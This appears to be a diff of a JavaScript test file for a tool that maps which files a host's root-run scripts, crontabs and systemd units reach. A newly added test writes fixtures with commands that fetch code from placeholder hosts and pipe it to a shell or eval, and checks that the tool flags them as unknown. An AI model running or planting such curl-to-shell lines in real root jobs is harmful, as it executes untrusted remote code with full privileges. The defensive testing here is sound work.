@@ -104,7 +104,7 @@ test('what root runs leads to what its scripts, environments and working directo
   const { places } = await findRootFiles(diskFiles(host.root));
   for (const path of [...led, '/srv/python', '/srv/parts', `${units}/opened.socket`])
     assert.ok(places.includes(path), path);
-  // What only the run shows is no doubt here: scripts of packages do so on every host.
+  // What programs of the system print is no doubt: scripts of packages obey it on every host.
   assert.ok(places.every((place) => typeof place === 'string'));
   for (const path of ['/srv/app/run', '/srv/of-ann', '/srv/last', '/srv/last/other'])
     assert.ok(!places.includes(path), path);
@@ -162,6 +162,27 @@ test('a script that names more files than are looked for is unknown', async () =
     const { places } = await findRootFiles(diskFiles(own.root));
     const unread = places.flatMap((place) => (typeof place === 'string' ? [] : [place.from]));
     assert.deepEqual(unread, ['/etc/cron.daily/x']);
+  } finally {
+    own.remove();
+  }
+});
+
+test('what scripts, crontabs and units of root run of elsewhere is unknown', async () => {
+  const own = fakeHost();
+  try {
+    own.write('/etc/cron.daily/x', script('date', 'eval "$(curl -s https://x.example)"'));
+    own.write('/etc/cron.d/y', '@daily root date\n@daily root curl -s https://y.example | sh\n');
+    own.write(`${units}/z.service`, "[Service]\nExecStart=/bin/sh -c 'curl -s https://z.example | sh'\n");
+    const { places } = await findRootFiles(diskFiles(own.root));
+    const unread = places.flatMap((place) =>
+      typeof place === 'string' ? [] : [`${place.from}: ${place.detail}`],
+    );
+    const why = 'runs is unknown: it depends on what curl prints';
+    assert.deepEqual(unread.toSorted(), [
+      `/etc/cron.d/y: line 2: what \`curl -s https://y.example | sh\` ${why}`,
+      `/etc/cron.daily/x: line 3: what \`eval "$(curl -s https://x.example)"\` ${why}`,
+      `${units}/z.service: line 2: what \`curl -s https://z.example | sh\` ${why}`,
+    ]);
   } finally {
     own.remove();
   }
